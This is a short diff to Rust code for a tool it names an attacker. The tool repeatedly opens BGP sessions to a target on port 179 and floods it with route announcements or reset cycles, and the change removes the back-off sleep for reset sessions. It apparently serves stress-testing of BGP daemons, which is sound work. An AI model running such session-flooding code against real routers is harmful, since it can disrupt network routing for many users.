@@ -44,7 +44,7 @@ impl Attack {
         let thread = spawn(move || {
             while !attacker.stop.load(Ordering::Relaxed) {
                 // A session that ends is made anew, the sooner the worse.
-                if attacker.session(kind).is_err() {
+                if attacker.session(kind).is_err() && kind != Kind::Reset {
                     std::thread::sleep(Duration::from_millis(1));
                 }
             }
@@ -87,6 +87,9 @@ impl Attacker {
             socket.set_recv_buffer_size(4096)?;
         }
         socket.connect(&SocketAddr::from((self.target, 179)).into())?;
+        if kind == Kind::Reset {
+            self.done.fetch_add(1, Ordering::Relaxed);
+        }
         let mut stream = TcpStream::from(socket);
         stream.set_read_timeout(Some(Duration::from_millis(200)))?;
         stream.set_write_timeout(Some(Duration::from_millis(200)))?;
@@ -114,7 +117,6 @@ impl Attacker {
             Kind::Reset => {
                 wire::announce(&attributes, prefixes(0, 1000), &mut octets);
                 self.write(&mut stream, &octets, &mut buffer)?;
-                self.done.fetch_add(1, Ordering::Relaxed);
             }
             Kind::Routes => {
                 for first in (0..MANY).step_by(1000) {
